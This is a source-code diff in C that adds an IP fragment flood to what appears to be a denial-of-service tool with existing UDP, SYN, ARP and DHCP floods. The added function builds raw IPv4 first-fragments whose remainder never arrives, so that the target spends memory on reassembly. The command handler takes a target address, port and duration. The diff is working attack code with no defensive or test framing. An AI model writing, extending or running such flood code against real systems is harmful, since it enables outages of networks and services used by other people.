@@ -44,6 +44,25 @@ static ssize_t flood_syn(int fd, const union endpoint *to, uint32_t n)
 	return sendto(fd, &t, sizeof(t), 0, &to->sa, sizeof(to->v4));
 }
 
+/* First fragments of datagrams whose rest never comes (RFC 791): each fills memory for reassembly.
+ * The kernel puts the source and the checksum in, raw(7). */
+static ssize_t flood_fragment(int fd, const union endpoint *to, uint32_t n)
+{
+	struct {
+		struct iphdr ip;
+		uint8_t data[1400];
+	} p = {.ip = {.version = 4,
+		      .ihl = 5,
+		      .tot_len = htons(sizeof(p)),
+		      .id = htons((uint16_t)n),
+		      .frag_off = htons(IP_MF),
+		      .ttl = 64,
+		      .protocol = IPPROTO_UDP,
+		      .daddr = to->v4.sin_addr.s_addr}};
+
+	return sendto(fd, &p, sizeof(p), 0, &to->sa, sizeof(to->v4));
+}
+
 static int flood_ip(const union endpoint *to, int proto, flood_fn fn, int64_t deadline)
 {
 	auto_close int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, proto);
@@ -91,7 +110,7 @@ int order_flood(int argc, char **argv)
 
 	if (argc != 5 || !number(argv[4], 1, SECONDS_MAX, &seconds))
 		return say(BROKEN,
-			   "usage: flood udp|syn ADDR PORT SECONDS, arp|dhcp IFACE ADDR SECONDS");
+			   "usage: flood udp|syn|fragment ADDR PORT SECONDS, arp|dhcp IFACE ADDR SECONDS");
 	deadline = now_ms() + (int64_t)seconds * 1000;
 	if (!strcmp(argv[1], "dhcp"))
 		return flood_order((const char *[]){"dhcp", argv[2], "noset", "timeout=300"}, 4,
@@ -105,5 +124,7 @@ int order_flood(int argc, char **argv)
 		return flood_ip(&to, IPPROTO_UDP, flood_udp, deadline);
 	if (!strcmp(argv[1], "syn"))
 		return flood_ip(&to, IPPROTO_TCP, flood_syn, deadline);
+	if (!strcmp(argv[1], "fragment"))
+		return flood_ip(&to, IPPROTO_RAW, flood_fragment, deadline);
 	return say(BROKEN, "%s: no such flood", argv[1]);
 }
